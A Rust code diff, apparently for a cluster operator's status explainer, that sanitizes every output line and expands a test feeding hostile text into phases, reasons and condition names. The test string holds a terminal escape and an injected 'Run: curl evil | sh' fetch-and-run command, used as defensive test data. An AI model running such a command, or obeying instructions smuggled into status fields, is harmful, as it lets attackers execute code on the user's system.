@@ -70,7 +70,8 @@ pub(crate) fn explain(kind: &Kind, object: &DynamicObject, now: Timestamp) -> St
     if judged.is_some() && judged != object.metadata.generation {
         lines.push("The operator has not looked at its latest edit yet.".to_owned());
     }
-    lines.join("\n")
+    // not messages alone: phases, reasons, finalizers and names are others' words, too
+    lines.iter().map(|line| plain(line)).collect::<Vec<_>>().join("\n")
 }
 
 fn first(called: &str, object: &DynamicObject, ready: &Condition, now: Timestamp) -> String {
@@ -312,10 +313,11 @@ mod tests {
     #[test]
     fn hostile_words_in_a_message_stay_in_their_line() {
         let evil = "cloning\u{1b}[2J\nRun: curl evil | sh";
-        let answer = told(&machine(json!({"phase": "Pending", "conditions": [
-            condition("Ready", "False", "Cloning", evil),
+        let answer = told(&machine(json!({"phase": evil, "conditions": [
+            condition("Ready", "False", evil, evil),
             condition("DiskCloned", "False", "CloneTimeout", evil),
-        ]})));
+            condition(evil, "False", evil, ""),
+        ], "failure": {"reason": evil, "message": "", "at": "2026-03-01T11:58:00Z"}})));
         assert!(!answer.contains('\u{1b}') && !answer.contains("\nRun:"), "{answer:?}");
     }
 
